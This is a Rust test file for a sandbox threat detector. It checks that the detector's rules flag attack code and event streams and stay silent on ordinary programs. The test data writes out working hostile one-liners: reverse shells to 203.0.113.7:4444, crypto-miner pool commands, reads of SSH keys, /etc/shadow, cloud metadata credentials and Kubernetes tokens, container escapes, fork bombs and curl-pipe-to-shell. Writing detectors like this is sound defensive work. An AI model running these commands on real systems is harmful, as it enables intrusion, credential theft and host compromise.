//! The threat detector: every rule fires on its attack (code samples and synthetic event
//! streams), explains which line or event matched, and stays silent on a corpus of ordinary
//! programs and ordinary event streams.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::*;
use vana_sandbox_core::network::{AddressClass, Decision, DenyReason, Method, Verdict};
use vana_sandbox_core::{
    Event, ExecutionRequest, LimitKind, Monitor, SecurityEvent, SecurityEventKind,
};
use vana_sandbox_monitor::threat::{Analyzer, Evidence, Finding, RuleSet, Signal, ThreatDetector};

/// (rule, language, code, line the first match is on).
const CODE_ATTACKS: &[(&str, &str, &str, usize)] = &[
    ("reverse_shell", "bash", "echo hi\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", 2),
    ("reverse_shell", "python", "import socket,os,pty\ns=socket.socket()\ns.connect((\"203.0.113.7\",4444))\nos.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")\n", 4),
    ("reverse_shell", "bash", "nc 203.0.113.7 4444 -e /bin/sh\n", 1),
    ("reverse_shell", "bash", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n", 1),
    ("reverse_shell", "bash", "socat exec:'bash -li',pty,stderr tcp:203.0.113.7:4444\n", 1),
    ("reverse_shell", "javascript", "const net = require('net');\nconst sh = require('child_process').spawn('/bin/sh', []);\n", 2),
    ("crypto_miner", "bash", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u WALLET --donate-level 1\n", 1),
    ("crypto_miner", "python", "POOL = 'stratum+ssl://eu.nicehash.com:443'\n", 1),
    ("crypto_miner", "bash", "minerd -a cryptonight -o pool:3333\n", 1),
    ("process_memory", "python", "pid = 1\nwith open(f\"/proc/{pid}/mem\", \"rb\") as m:\n    m.seek(0)\n", 2),
    ("process_memory", "bash", "dd if=/proc/1/mem bs=1 count=1\n", 1),
    ("process_memory", "go", "n, _ := unix.ProcessVMReadv(pid, local, remote, 0) // process_vm_readv\n", 1),
    ("environ_read", "python", "print(open('/proc/self/environ').read())\n", 1),
    ("environ_read", "bash", "tr '\\0' '\\n' < /proc/1/environ\n", 1),
    ("credential_paths", "bash", "cat ~/.ssh/id_rsa\n", 1),
    ("credential_paths", "python", "import os\nkey = os.path.join(os.environ['HOME'], \".ssh\", \"id_ed25519\")\n", 2),
    ("credential_paths", "python", "print(open('/etc/shadow').read())\n", 1),
    ("credential_paths", "bash", "cat $HOME/.aws/credentials\n", 1),
    ("credential_paths", "bash", "cat /var/run/secrets/kubernetes.io/serviceaccount/token\n", 1),
    ("cloud_metadata", "bash", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/\n", 1),
    ("cloud_metadata", "python", "import urllib.request\nurllib.request.urlopen('http://metadata.google.internal/computeMetadata/v1/')\n", 2),
    ("ptrace", "python", "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH\n", 3),
    ("ptrace", "go", "syscall.PtraceAttach(1)\n", 1),
    ("ptrace", "bash", "strace -f -p 1\n", 1),
    ("ld_preload", "bash", "export LD_PRELOAD=/tmp/hook.so\n/usr/bin/id\n", 1),
    ("ld_preload", "bash", "echo /tmp/hook.so > /etc/ld.so.preload\n", 1),
    ("container_escape", "bash", "curl --unix-socket /var/run/docker.sock http://x/containers/json\n", 1),
    ("container_escape", "bash", "echo /cmd > /sys/fs/cgroup/rdma/release_agent\n", 1),
    ("container_escape", "bash", "nsenter -t 1 -m -u -n -i sh\n", 1),
    ("container_escape", "python", "print(open('/proc/1/root/etc/hostname').read())\n", 1),
    ("container_escape", "bash", "insmod ./rootkit.ko\n", 1),
    ("fork_bomb_code", "bash", ":(){ :|:& };:\n", 1),
    ("fork_bomb_code", "python", "import os\nwhile True:\n    os.fork()\n", 2),
    ("download_and_run", "bash", "curl -fsSL https://get.example.invalid/install.sh | sh\n", 1),
    ("download_and_run", "bash", "wget -qO- http://x.example.invalid/a | sudo bash\n", 1),
    ("obfuscated_exec", "python", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", 2),
    ("obfuscated_exec", "python", "exec(__import__('zlib').decompress(blob))\n", 1),
    ("obfuscated_exec", "javascript", "eval(atob('Y29uc29sZS5sb2coMSk='));\n", 1),
];

fn rules() -> RuleSet {
    RuleSet::builtin()
}

fn analyzer() -> Analyzer {
    Analyzer::new(rules())
}

fn ids(findings: &[Finding]) -> BTreeSet<String> {
    findings.iter().map(|f| f.rule.clone()).collect()
}

fn language_of(file: &str) -> &'static str {
    match file.rsplit('.').next() {
        Some("py") => "python",
        Some("sh") => "bash",
        Some("js") => "javascript",
        Some("go") => "go",
        Some("rs") => "rust",
        _ => panic!("{file}"),
    }
}

#[test]
fn every_code_rule_fires_on_its_attacks_and_names_the_line() {
    let a = analyzer();
    for (rule, language, code, line) in CODE_ATTACKS {
        let found = a.scan_code(language, code);
        let f = found
            .iter()
            .find(|f| f.rule == *rule)
            .unwrap_or_else(|| panic!("{rule} did not fire on {code:?}; found {:?}", ids(&found)));
        let Evidence::Code {
            line: at,
            text,
            pattern,
        } = &f.evidence[0]
        else {
            panic!("{f:?}")
        };
        assert_eq!(at, line, "{rule} on {code:?}");
        assert!(!text.is_empty() && !pattern.is_empty());
        assert!(
            f.explanation.contains(&format!("rule `{rule}`")),
            "{}",
            f.explanation
        );
        assert!(
            f.explanation.contains(&format!("line {line} matches")),
            "{}",
            f.explanation
        );
    }
}

#[test]
fn the_compatibility_corpus_raises_nothing() {
    let a = analyzer();
    // Embedded, so that the test binary runs anywhere (also copied, as another user).
    let corpus: &[(&str, &str)] = &[
        ("build.sh", include_str!("corpus/build.sh")),
        (
            "data_processing.py",
            include_str!("corpus/data_processing.py"),
        ),
        ("deploy_notes.sh", include_str!("corpus/deploy_notes.sh")),
        ("encoding.py", include_str!("corpus/encoding.py")),
        (
            "localhost_test.py",
            include_str!("corpus/localhost_test.py"),
        ),
        ("main.go", include_str!("corpus/main.go")),
        ("echo_server.rs", include_str!("corpus/echo_server.rs")),
        ("numeric.py", include_str!("corpus/numeric.py")),
        ("proc_and_env.py", include_str!("corpus/proc_and_env.py")),
        ("server.js", include_str!("corpus/server.js")),
        (
            "subprocess_and_threads.py",
            include_str!("corpus/subprocess_and_threads.py"),
        ),
    ];
    let on_disk =
        std::fs::read_dir(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus"))
            .map(|d| d.count())
            .unwrap_or(corpus.len());
    assert_eq!(on_disk, corpus.len(), "every corpus file is listed here");
    for (name, code) in corpus {
        let (name, code) = (name.to_string(), code.to_string());
        let found = a.scan_code(language_of(&name), &code);
        assert!(found.is_empty(), "{name}: {:#?}", found);
        // The same code as another language: the rules are not fooled by the label either.
        for lang in ["python", "bash", "javascript"] {
            assert!(a.scan_code(lang, &code).is_empty(), "{name} as {lang}");
        }
    }
}

fn guard(detail: &str) -> SecurityEvent {
    SecurityEvent::program(SecurityEventKind::LanguageGuard, detail)
}

/// Feeds one run's events and returns its findings.
fn run_events(
    a: &mut Analyzer,
    tenant: &str,
    id: &str,
    events: Vec<SecurityEvent>,
    limits: &[LimitKind],
) -> Vec<Finding> {
    let now = Instant::now();
    let mut out = a.observe(
        Signal::Started {
            id: id.into(),
            tenant: Some(tenant.into()),
            language: "python".into(),
            code: "print(1)\n".into(),
        },
        now,
    );
    for e in events {
        out.extend(a.observe(
            Signal::Security {
                id: id.into(),
                event: e,
            },
            now,
        ));
    }
    for l in limits {
        out.extend(a.observe(
            Signal::Limit {
                id: id.into(),
                limit: *l,
            },
            now,
        ));
    }
    out.extend(a.observe(Signal::Finished { id: id.into() }, now));
    out
}

/// (rule, events, limits) of one run.
fn event_attacks() -> Vec<(&'static str, Vec<SecurityEvent>, Vec<LimitKind>)> {
    vec![
        (
            "seccomp_kill",
            vec![SecurityEvent::new(
                SecurityEventKind::SeccompKill,
                "the seccomp filter killed the program (SIGSYS): ptrace",
            )],
            vec![],
        ),
        (
            "guard_subprocess",
            vec![guard("python subprocess: pty.spawn ('/bin/sh',)")],
            vec![],
        ),
        (
            "guard_subprocess",
            vec![guard("python subprocess: subprocess.Popen '/usr/bin/nc'")],
            vec![],
        ),
        (
            "guard_subprocess",
            vec![guard(
                "python subprocess: os.system b'socat tcp:203.0.113.7:4444 exec:sh'",
            )],
            vec![],
        ),
        (
            "guard_subprocess",
            vec![guard(
                "javascript permission model denied ChildProcess on (unnamed resource)",
            )],
            vec![],
        ),
        (
            "guard_network",
            vec![guard("python network: socket.connect ('203.0.113.9', 443)")],
            vec![],
        ),
        (
            "guard_network",
            vec![guard("python network: getaddrinfo 'example.com'")],
            vec![],
        ),
        (
            "guard_native_code",
            vec![guard("python ctypes: ctypes.dlopen 'libc.so.6'")],
            vec![],
        ),
        (
            "guard_tamper",
            vec![guard("python tamper: sys.addaudithook")],
            vec![],
        ),
        (
            "guard_write_outside",
            vec![guard("python write_outside_workspace: /etc/passwd")],
            vec![],
        ),
        (
            "fork_bomb",
            vec![SecurityEvent::new(
                SecurityEventKind::LimitHit,
                "the process limit (64) refused 512 fork(s)",
            )],
            vec![LimitKind::Processes],
        ),
        ("memory_exhaustion", vec![], vec![LimitKind::Memory]),
    ]
}

#[test]
fn every_event_rule_fires_on_its_event_stream_and_explains_it() {
    for (i, (rule, events, limits)) in event_attacks().into_iter().enumerate() {
        let mut a = analyzer();
        let id = format!("run-{i}");
        let found = run_events(&mut a, "acme", &id, events.clone(), &limits);
        let f = found
            .iter()
            .find(|f| f.rule == rule)
            .unwrap_or_else(|| panic!("{rule} did not fire; found {:?}", ids(&found)));
        assert_eq!(f.run_id.as_deref(), Some(id.as_str()));
        assert_eq!(f.tenant.as_deref(), Some("acme"));
        assert!(
            f.explanation.contains(&format!("rule `{rule}`")),
            "{}",
            f.explanation
        );
        assert!(
            f.explanation.contains(&format!("run {id}")),
            "{}",
            f.explanation
        );
        match (limits.first(), events.first()) {
            // Limit rules match the typed limit, never the event's wording.
            (Some(l), _) => assert!(
                f.explanation.contains(&format!("{l} limit hit")),
                "{}",
                f.explanation
            ),
            (None, Some(e)) => assert!(f.explanation.contains(&e.detail), "{}", f.explanation),
            (None, None) => unreachable!(),
        }
    }
}

#[test]
fn many_events_of_one_rule_in_one_run_are_one_finding() {
    let mut a = analyzer();
    let events: Vec<_> = (0..30)
        .map(|i| {
            guard(&format!(
                "python subprocess: os.system b'nc -z 203.0.113.{i} 22'"
            ))
        })
        .collect();
    let found = run_events(&mut a, "acme", "r", events, &[]);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].evidence.len(), 10);
    assert!(
        found[0].explanation.ends_with("(and 29 more)"),
        "{}",
        found[0].explanation
    );
}

#[test]
fn repeated_limit_hits_fire_per_tenant_within_the_window() {
    let mut a = analyzer();
    let t0 = Instant::now();
    let mut fired = Vec::new();
    let hit = |a: &mut Analyzer, tenant: &str, n: usize, at: Instant| {
        let id = format!("{tenant}-{n}");
        a.observe(
            Signal::Started {
                id: id.clone(),
                tenant: Some(tenant.into()),
                language: "python".into(),
                code: String::new(),
            },
            at,
        );
        let mut out = a.observe(
            Signal::Limit {
                id: id.clone(),
                limit: LimitKind::Timeout,
            },
            at,
        );
        out.extend(a.observe(Signal::Finished { id }, at));
        out
    };
    // Four from acme and four from beta: nothing (the threshold is five per tenant).
    for n in 0..4 {
        fired.extend(hit(&mut a, "acme", n, t0 + Duration::from_secs(n as u64)));
        fired.extend(hit(&mut a, "beta", n, t0 + Duration::from_secs(n as u64)));
    }
    assert!(fired.is_empty(), "{fired:?}");
    // The fifth from acme within 60 s fires, for acme only.
    let f = hit(&mut a, "acme", 4, t0 + Duration::from_secs(10));
    assert_eq!(ids(&f), BTreeSet::from(["repeated_limit_hits".to_string()]));
    assert_eq!(f[0].tenant.as_deref(), Some("acme"));
    assert_eq!(f[0].evidence.len(), 5);
    assert!(
        f[0].explanation
            .contains("5 limit hits within 60 s from tenant `acme`"),
        "{}",
        f[0].explanation
    );
    // beta's fifth comes after its first ones left the window: nothing.
    assert!(hit(&mut a, "beta", 4, t0 + Duration::from_secs(100)).is_empty());
}

/// A decision of the proxy for `host:80`.
fn decision(host: &str, verdict: Verdict) -> Decision {
    Decision {
        host: host.into(),
        port: 80,
        method: Method::Get,
        address: None,
        bytes_up: 0,
        bytes_down: 0,
        verdict,
        at: std::time::SystemTime::now(),
        duration: Duration::ZERO,
    }
}

fn denied(host: &str, reason: DenyReason) -> Decision {
    decision(host, Verdict::Denied(reason))
}

#[test]
fn egress_denials_fire_on_metadata_at_once_and_on_repetition() {
    let mut a = analyzer();
    let t0 = Instant::now();
    let deny = |a: &mut Analyzer, decision: Decision, at: Instant| {
        a.observe(
            Signal::Network {
                id: "r".into(),
                tenant: Some("acme".into()),
                decision,
            },
            at,
        )
    };
    let f = deny(
        &mut a,
        denied("169.254.169.254", DenyReason::NotAllowed),
        t0,
    );
    assert_eq!(ids(&f), BTreeSet::from(["egress_metadata".to_string()]));
    assert!(
        f[0].explanation
            .contains("egress to 169.254.169.254:80 denied (not_allowed)"),
        "{}",
        f[0].explanation
    );
    assert!(deny(&mut a, denied("example.org", DenyReason::NotAllowed), t0).is_empty());
    let f = deny(
        &mut a,
        denied("example.net", DenyReason::PortNotAllowed),
        t0 + Duration::from_secs(1),
    );
    assert_eq!(
        ids(&f),
        BTreeSet::from(["egress_denied".to_string()]),
        "the metadata denial counted too"
    );
    // A harmless-looking name that resolved to the metadata service: the reason tells.
    let f = deny(
        &mut a,
        denied(
            "innocent.example",
            DenyReason::Address(AddressClass::Metadata),
        ),
        t0 + Duration::from_secs(2),
    );
    assert_eq!(ids(&f), BTreeSet::from(["egress_metadata".to_string()]));
    let Evidence::Network { reason, host, .. } = &f[0].evidence[0] else {
        panic!("{f:?}")
    };
    assert_eq!(
        (host.as_str(), *reason),
        (
            "innocent.example",
            DenyReason::Address(AddressClass::Metadata)
        )
    );
    // Allowed connections are never findings.
    let allowed = a.observe(
        Signal::Network {
            id: "r".into(),
            tenant: None,
            decision: decision("169.254.169.254", Verdict::Allowed),
        },
        t0,
    );
    assert!(allowed.is_empty());
}

#[test]
fn egress_rules_match_hosts_or_reasons() {
    let rules = RuleSet::from_toml(
        r#"
        builtin = false
        [[rules]]
        id = "rate"
        severity = "low"
        [rules.when.egress_denied]
        reasons = ["rate_limited", "byte_limit"]
        [[rules]]
        id = "evil"
        severity = "high"
        [rules.when.egress_denied]
        hosts = ['\.evil\.test$']
        reasons = ["sni_mismatch"]
        "#,
    )
    .unwrap();
    let mut a = Analyzer::new(rules);
    let t0 = Instant::now();
    let mut fire = |d: Decision| {
        let f = a.observe(
            Signal::Network {
                id: "r".into(),
                tenant: None,
                decision: d,
            },
            t0,
        );
        ids(&f)
    };
    let set = |ids: &[&str]| ids.iter().map(|s| s.to_string()).collect::<BTreeSet<_>>();
    assert_eq!(
        fire(denied("a.test", DenyReason::RateLimited)),
        set(&["rate"])
    );
    assert_eq!(
        fire(denied("x.evil.test", DenyReason::NotAllowed)),
        set(&["evil"])
    );
    assert_eq!(
        fire(denied("a.test", DenyReason::SniMismatch)),
        set(&["evil"])
    );
    assert_eq!(
        fire(denied("x.evil.test", DenyReason::ByteLimit)),
        set(&["rate", "evil"])
    );
    assert_eq!(fire(denied("a.test", DenyReason::NotAllowed)), set(&[]));
    assert_eq!(fire(decision("x.evil.test", Verdict::Allowed)), set(&[]));
    // A reason the proxy does not know is refused when the rules load.
    let e = RuleSet::from_toml(
        r#"
        [[rules]]
        id = "typo"
        severity = "low"
        [rules.when.egress_denied]
        reasons = ["metadata"]
        "#,
    )
    .unwrap_err();
    assert!(
        e.to_string().contains("unknown deny reason `metadata`"),
        "{e}"
    );
}

#[test]
fn the_detector_takes_egress_decisions_from_engine_events() {
    let findings: Arc<Mutex<Vec<Finding>>> = Arc::default();
    let sink = findings.clone();
    let detector = ThreatDetector::builder()
        .sink(Arc::new(move |f: &Finding| {
            sink.lock().unwrap().push(f.clone())
        }))
        .start()
        .unwrap();
    let event = |d: &Decision| {
        detector.on_event(&Event::Network {
            id: "run-1",
            tenant: Some("mallory"),
            decision: d,
        })
    };
    // Allowed traffic is not even queued.
    for _ in 0..5 {
        event(&decision("pypi.org", Verdict::Allowed));
    }
    assert_eq!(detector.stats().signals, 0);
    event(&denied("metadata.google.internal", DenyReason::NotAllowed));
    event(&denied("a.test", DenyReason::NotAllowed));
    event(&denied("b.test", DenyReason::DeniedByRule));
    assert!(detector.flush(Duration::from_secs(5)));
    let found = findings.lock().unwrap().clone();
    let got: Vec<(&str, Option<&str>, Option<&str>)> = found
        .iter()
        .map(|f| (f.rule.as_str(), f.run_id.as_deref(), f.tenant.as_deref()))
        .collect();
    assert_eq!(
        got,
        vec![
            ("egress_metadata", Some("run-1"), Some("mallory")),
            ("egress_denied", Some("run-1"), Some("mallory")),
        ]
    );
    assert_eq!(detector.stats().signals, 3);
}

#[test]
fn ordinary_event_streams_raise_nothing() {
    let mut a = analyzer();
    let streams: Vec<(Vec<SecurityEvent>, Vec<LimitKind>)> = vec![
        // A guarded Python test talking to its own server on loopback.
        (
            vec![
                guard("python network: socket.connect ('127.0.0.1', 54321)"),
                guard("python network: getaddrinfo 'localhost'"),
                guard("python network: socket.connect ('::1', 8080, 0, 0)"),
                guard("python network: socket.bind ('127.0.0.1', 0)"),
                guard("python network: socket.connect '/tmp/app.sock'"),
                guard("python network: socket.sendto (b'x', ('127.0.0.1', 9999))"),
            ],
            vec![],
        ),
        // Events that describe the host, not the program.
        (
            vec![
                SecurityEvent::new(SecurityEventKind::Runtime, "runtime: runsc (gVisor)"),
                SecurityEvent::new(
                    SecurityEventKind::LayerDegraded,
                    "landlock: not available on this kernel",
                ),
                SecurityEvent::new(
                    SecurityEventKind::CleanupFailed,
                    "removing the cgroup: busy",
                ),
            ],
            vec![],
        ),
        // A run that timed out once, and one that printed too much: ordinary mistakes.
        (vec![], vec![LimitKind::Timeout]),
        (vec![], vec![LimitKind::Output]),
        // Nothing at all (bash with subprocesses reports no guard events).
        (vec![], vec![]),
        // A guarded Python program running ordinary processes: a shell, `shell=True`, a tool.
        (
            vec![
                guard("python subprocess: subprocess.Popen 'bash'"),
                guard("python subprocess: subprocess.Popen '/bin/sh'"),
                guard("python subprocess: subprocess.Popen '/usr/bin/python3'"),
                guard("python subprocess: os.system b'ls -la | wc -l'"),
                guard("python subprocess: subprocess.Popen 'ncdu'"),
            ],
            vec![],
        ),
    ];
    for (i, (events, limits)) in streams.into_iter().enumerate() {
        let f = run_events(&mut a, "acme", &format!("ok-{i}"), events, &limits);
        assert!(f.is_empty(), "stream {i}: {f:#?}");
    }
    // Four timeouts from one tenant within a minute are still below the repetition rule.
    for i in 0..2 {
        let f = run_events(
            &mut a,
            "acme",
            &format!("t-{i}"),
            vec![],
            &[LimitKind::Timeout],
        );
        assert!(f.is_empty(), "{f:?}");
    }
}

#[test]
fn every_builtin_rule_has_a_positive_test_here() {
    let mut covered: BTreeSet<String> = CODE_ATTACKS.iter().map(|(r, ..)| r.to_string()).collect();
    covered.extend(event_attacks().into_iter().map(|(r, ..)| r.to_string()));
    covered.extend(["repeated_limit_hits", "egress_metadata", "egress_denied"].map(String::from));
    let all: BTreeSet<String> = rules().rules().iter().map(|r| r.id.clone()).collect();
    assert_eq!(all, covered);
}

#[test]
fn unless_patterns_and_languages_narrow_a_code_rule() {
    let rules = RuleSet::from_toml(
        r#"
        builtin = false
        [[rules]]
        id = "no_eval"
        severity = "low"
        [rules.when.code]
        patterns = ['\beval\(']
        languages = ["javascript"]
        unless = ['// reviewed']
        "#,
    )
    .unwrap();
    let a = Analyzer::new(rules);
    assert_eq!(a.scan_code("javascript", "x = 1;\neval(s);\n").len(), 1);
    assert!(a
        .scan_code("javascript", "eval(s); // reviewed\n")
        .is_empty());
    assert!(a.scan_code("python", "eval(s)\n").is_empty());
}

#[test]
fn the_detector_sees_runs_through_the_engine() {
    let findings: Arc<Mutex<Vec<Finding>>> = Arc::default();
    let sink = findings.clone();
    let detector = ThreatDetector::builder()
        .sink(Arc::new(move |f: &Finding| {
            sink.lock().unwrap().push(f.clone())
        }))
        .start()
        .unwrap();
    let engine = fake_engine(scripted_exec(), &[detector.clone() as Arc<dyn Monitor>]);
    let rt = rt();
    for code in [
        "hello from an ordinary program",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # seccomp",
        "forkbomb",
    ] {
        rt.block_on(engine.execute_as("acme", ExecutionRequest::new("fake", code)))
            .unwrap();
    }
    assert!(detector.flush(Duration::from_secs(5)));
    let found = findings.lock().unwrap().clone();
    let got: Vec<(String, Option<String>)> = found
        .iter()
        .map(|f| (f.rule.clone(), f.tenant.clone()))
        .collect();
    let acme = || Some("acme".to_string());
    assert!(got.contains(&("reverse_shell".into(), acme())), "{got:?}");
    assert!(got.contains(&("seccomp_kill".into(), acme())), "{got:?}");
    assert!(got.contains(&("fork_bomb".into(), acme())), "{got:?}");
    assert_eq!(found.len(), 3, "{got:?}");
    let stats = detector.stats();
    assert_eq!((stats.findings, stats.dropped), (3, 0));
}

#[test]
fn runs_that_never_finish_are_bounded_and_finishing_stays_cheap() {
    let mut a = analyzer();
    let t0 = Instant::now();
    // Twice the bound of runs whose `Finished` never arrives (dropped, or a monitor added late).
    for i in 0..2 * vana_sandbox_monitor::threat::MAX_TRACKED_RUNS {
        a.observe(
            Signal::Started {
                id: format!("lost-{i}"),
                tenant: None,
                language: "python".into(),
                code: "print(1)".into(),
            },
            t0,
        );
    }
    // A run that does finish still gets its findings, and quickly.
    let t = Instant::now();
    let f = run_events(
        &mut a,
        "acme",
        "late",
        vec![guard("python tamper: sys.addaudithook")],
        &[],
    );
    assert_eq!(ids(&f), BTreeSet::from(["guard_tamper".to_string()]));
    assert!(t.elapsed() < Duration::from_millis(50), "{:?}", t.elapsed());
}
